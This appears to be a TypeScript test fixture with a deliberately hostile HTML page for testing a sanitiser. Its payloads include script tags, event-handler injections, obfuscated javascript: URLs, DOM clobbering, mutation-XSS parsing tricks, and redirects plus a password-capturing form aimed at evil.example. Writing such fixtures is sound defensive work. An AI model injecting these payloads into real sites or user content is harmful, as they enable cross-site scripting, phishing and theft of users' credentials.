import type { PageText } from './page-text.ts';

/** A page with attacks of an untrusted author, for tests (/info/hostile). A successful attack sets `window.hacked`. */
export const hostile: PageText = [
  'Hostile <script>hacked=1</script>',
  [
    '<h1>All of this is harmless</h1><p>before</p>',
    '<script>window.hacked = "script"</script>',
    '<img src="x" onerror="window.hacked = \'onerror\'">',
    '<a href="javascript:window.hacked=1">one</a> <a href="JaVa&#x09;Script:window.hacked=1">two</a>',
    '<a href="data:text/html,<script>window.hacked=1</script>">three</a> <a href="//evil.example/">four</a>',
    '<p style="position:fixed;inset:0;background:red" onclick="window.hacked=1">styled</p><style>body{display:none}</style>',
    '<svg onload="window.hacked=1"><script>window.hacked=1</script><a xlink:href="javascript:window.hacked=1">svg</a></svg>',
    '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe><object data="evil.swf"></object><embed src="evil">',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css"><form action="https://evil.example/"><input name="password"><button>Send</button></form>',
    '<img name="getElementById" src="https://evil.example/pixel.png" alt="clobbered"><p id="root">own id</p>',
    `${'<div>'.repeat(60)}deep${'</div>'.repeat(60)}`,
    '<details open ontoggle="window.hacked=1"><summary>more</summary>inside</details><p>after</p>',
    // The unclosed markup hides the rest of the element.
    '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>"></noscript>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1></form>',
  ].join(''),
];
